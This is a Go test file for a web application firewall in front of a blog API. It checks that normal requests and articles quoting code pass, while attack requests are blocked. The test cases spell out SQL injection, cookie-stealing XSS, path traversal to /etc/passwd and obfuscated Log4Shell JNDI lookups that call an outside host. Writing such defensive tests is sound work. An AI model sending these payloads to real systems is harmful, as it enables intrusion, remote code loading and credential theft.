package waf_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"webstack/app/waf"
)

func inspect(t *testing.T, w *waf.WAF, method, target, body string, header map[string]string) waf.Verdict {
	t.Helper()
	r := httptest.NewRequest(method, target, strings.NewReader(body))
	r.Host = "127.0.0.1:8080"
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)")
	r.Header.Set("Accept", "application/json")
	if body != "" {
		r.Header.Set("Content-Type", "application/json")
	}
	for k, v := range header {
		r.Header.Set(k, v)
	}
	v, err := w.Inspect(r, "test-request-0001")
	require.NoError(t, err)
	if body != "" {
		rest, _ := io.ReadAll(r.Body)
		assert.Equal(t, body, string(rest), "the body is handed on unchanged")
	}
	return v
}

const codeArticle = `{"article":{"title":"SQL tips","description":"select and script","body":"` +
	"```sql\\nSELECT * FROM users WHERE id = 1 OR 1=1; DROP TABLE users; --\\n```\\n\\n```html\\n<script>alert(document.cookie)</script>\\n```" +
	`","tagList":["sql"]}}`

func TestCRSBlocksAttacksAndPassesConduitTraffic(t *testing.T) {
	w, err := waf.New(waf.On, 1<<20)
	require.NoError(t, err)
	tests := []struct {
		name    string
		method  string
		target  string
		body    string
		header  map[string]string
		blocked bool
	}{
		{"list articles", "GET", "/api/articles?limit=20&offset=0", "", nil, false},
		{"tags", "GET", "/api/tags", "", nil, false},
		{"login", "POST", "/api/users/login", `{"user":{"email":"jake@jake.jake","password":"jakejake"}}`, nil, false},
		{"update article", "PUT", "/api/articles/how-to-train", `{"article":{"body":"With two hands"}}`, nil, false},
		{"delete comment", "DELETE", "/api/articles/how-to-train/comments/1", "", nil, false},
		{"article with code in markdown", "POST", "/api/articles", codeArticle, nil, false},
		{"comment with code", "POST", "/api/articles/sql-tips/comments", `{"comment":{"body":"try <script>alert(1)</script> or ' OR 1=1 --"}}`, nil, false},
		{"SQLi in query string", "GET", "/api/articles?tag=%27%20OR%201%3D1%20UNION%20SELECT%20password%20FROM%20users%20--", "", nil, true},
		{"XSS in query string", "GET", "/api/articles?author=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", nil, true},
		{"XSS in a header", "GET", "/api/tags", "", map[string]string{"Referer": "<script>alert(document.cookie)</script>"}, true},
		{"code payload in tagList", "POST", "/api/articles", `{"article":{"title":"t","description":"d","body":"b","tagList":["<script>alert(1)</script>"]}}`, nil, true},
		{"code in a bio", "PUT", "/api/user", `{"user":{"bio":"I write about <script>alert(1)</script> and ' OR 1=1 --"}}`, nil, false},
		{"code payload in user image", "PUT", "/api/user", `{"user":{"image":"<script>alert(document.cookie)</script>"}}`, nil, true},
		{"code payload in a bio on another endpoint", "POST", "/api/users", `{"user":{"bio":"<script>alert(document.cookie)</script>"}}`, nil, true},
		{"SQLi payload in login", "POST", "/api/users/login", `{"user":{"email":"' OR 1=1 UNION SELECT password FROM users --","password":"x"}}`, nil, true},
		{"article body payload on another endpoint", "PUT", "/api/user", `{"article":{"body":"<script>alert(document.cookie)</script>"}}`, nil, true},
		{"path traversal", "GET", "/api/articles/../../etc/passwd", "", nil, true},
		{"scanner user agent", "GET", "/api/tags", "", map[string]string{"User-Agent": "sqlmap/1.7"}, true},
		// Log4Shell (issue #30): what AWS WAF's known-bad-inputs group
		// blocks in staging and prod, dev's WAF blocks too.
		{"JNDI lookup in a header", "GET", "/api/tags", "", map[string]string{"X-Api-Version": "${jndi:ldap://203.0.113.9/a}"}, true},
		{"JNDI lookup in the query", "GET", "/api/articles?tag=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D", "", nil, true},
		{"JNDI lookup in a body field", "POST", "/api/users/login", `{"user":{"email":"${jndi:rmi://203.0.113.9/a}","password":"x"}}`, nil, true},
		{"JNDI lookup in an article body", "POST", "/api/articles", `{"article":{"title":"t","description":"d","body":"${jndi:dns://203.0.113.9/a}"}}`, nil, true},
		{"obfuscated JNDI lookup", "GET", "/api/tags", "", map[string]string{"User-Agent": "${${lower:j}ndi:ldap://203.0.113.9/a}"}, true},
		{"a template literal in an article", "POST", "/api/articles", `{"article":{"title":"JS","description":"d","body":"const s = ` + "`${a} and ${b}`" + `;"}}`, nil, false},
		{"nested templates in an article", "POST", "/api/articles", `{"article":{"title":"JS","description":"d","body":"s = ${ok ? ` + "`${b}`" + ` : c}; PORT=${PORT:-${DEFAULT}}"}}`, nil, false},
		{"a ${::-j} lookup", "GET", "/api/tags", "", map[string]string{"X-Api-Version": "${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.9/a}"}, true},
	}
	for _, tt := range tests {
		v := inspect(t, w, tt.method, tt.target, tt.body, tt.header)
		assert.Equal(t, tt.blocked, v.Blocked, "%s: blocked = %v, want %v (rule %d, matched %v)", tt.name, v.Blocked, tt.blocked, v.RuleID, v.Matched)
		if tt.blocked {
			assert.Equal(t, http.StatusForbidden, v.Status, tt.name)
		}
	}
}

// inspectForm is inspect for a browser's form post.
func inspectForm(t *testing.T, w *waf.WAF, target string, fields url.Values) waf.Verdict {
	t.Helper()
	r := httptest.NewRequest("POST", target, strings.NewReader(fields.Encode()))
	r.Host = "127.0.0.1:8080"
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)")
	r.Header.Set("Accept", "text/html")
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	v, err := w.Inspect(r, "test-request-0002")
	require.NoError(t, err)
	return v
}

// The site's forms carry the same content as the api's JSON: the content
// fields get the same narrow exclusions, on those routes only.
func TestCRSPassesContentFormsAndBlocksTheSamePayloadsElsewhere(t *testing.T) {
	w, err := waf.New(waf.On, 1<<20)
	require.NoError(t, err)
	code := "```sql\nSELECT * FROM users WHERE id = 1 OR 1=1; DROP TABLE users; --\n```\n<script>alert(document.cookie)</script>"
	tests := []struct {
		name    string
		target  string
		fields  url.Values
		blocked bool
	}{
		{"new article with code", "/editor", url.Values{"csrf": {"x"}, "title": {"SQL <script>"}, "description": {"' OR 1=1 --"}, "body": {code}, "tags": {"sql"}}, false},
		{"edited article with code", "/editor/sql-tips", url.Values{"csrf": {"x"}, "title": {"t"}, "description": {"d"}, "body": {code}}, false},
		{"comment with code", "/article/sql-tips", url.Values{"csrf": {"x"}, "body": {code}}, false},
		{"comment with code, the old form address", "/article/sql-tips/comments", url.Values{"csrf": {"x"}, "body": {code}}, false},
		{"bio with code", "/settings", url.Values{"csrf": {"x"}, "bio": {code}, "username": {"jake"}, "email": {"jake@example.com"}}, false},
		{"payload in tags", "/editor", url.Values{"csrf": {"x"}, "title": {"t"}, "description": {"d"}, "body": {"b"}, "tags": {"<script>alert(1)</script>"}}, true},
		{"payload in the image URL", "/settings", url.Values{"csrf": {"x"}, "image": {"javascript:alert(document.cookie)<script>alert(1)</script>"}}, true},
		{"article body on sign-in", "/login", url.Values{"csrf": {"x"}, "email": {"a@b.c"}, "password": {"x"}, "body": {code}}, true},
		{"comment body on another route", "/article/sql-tips/delete", url.Values{"csrf": {"x"}, "body": {code}}, true},
		{"SQLi in the sign-in email", "/login", url.Values{"csrf": {"x"}, "email": {"' OR 1=1 UNION SELECT password FROM users --"}, "password": {"x"}}, true},
	}
	for _, tt := range tests {
		v := inspectForm(t, w, tt.target, tt.fields)
		assert.Equal(t, tt.blocked, v.Blocked, "%s: blocked = %v, want %v (rule %d, matched %v)", tt.name, v.Blocked, tt.blocked, v.RuleID, v.Matched)
	}
}

func TestDetectModeNeverBlocks(t *testing.T) {
	w, err := waf.New(waf.Detect, 1<<20)
	require.NoError(t, err)
	v := inspect(t, w, "GET", "/api/articles?tag=%27%20OR%201%3D1%20UNION%20SELECT%20password%20FROM%20users%20--", "", nil)
	assert.False(t, v.Blocked)
	assert.NotEmpty(t, v.Matched, "detect mode still reports matches")
}

func TestParseMode(t *testing.T) {
	for _, s := range []string{"on", "detect", "off"} {
		_, err := waf.ParseMode(s)
		assert.NoError(t, err, s)
	}
	_, err := waf.ParseMode("block")
	assert.Error(t, err)
}

// Ordinary requests match no scoring rule, so the web tier logs nothing
// for them; an attack names the rules that scored.
func TestOnlyScoringRulesAreReported(t *testing.T) {
	w, err := waf.New(waf.On, 1<<20)
	require.NoError(t, err)
	for _, target := range []string{"/api/tags", "/api/articles?limit=20&offset=0", "/", "/article/how-to-train"} {
		v := inspect(t, w, "GET", target, "", nil)
		assert.Empty(t, v.Matched, "%s: paranoia-level markers are not matches", target)
	}
	v := inspect(t, w, "GET", "/api/articles?tag=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", nil)
	assert.True(t, v.Blocked)
	assert.NotEmpty(t, v.Matched)
	for _, id := range v.Matched {
		assert.True(t, id >= 941000 && id < 942000, "XSS rules score: %v", v.Matched)
	}
}
